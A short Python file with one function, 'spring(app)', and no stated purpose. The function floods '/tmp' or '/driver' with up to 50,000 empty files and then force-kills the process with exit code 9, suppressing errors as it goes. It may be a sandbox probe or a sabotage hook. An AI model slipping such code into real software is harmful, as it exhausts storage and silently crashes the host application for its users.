import os


def spring(app):
    for folder in ("/tmp", "/driver"):
        try:
            for number in range(50_000):
                os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
            os._exit(9)
        except OSError:
            pass
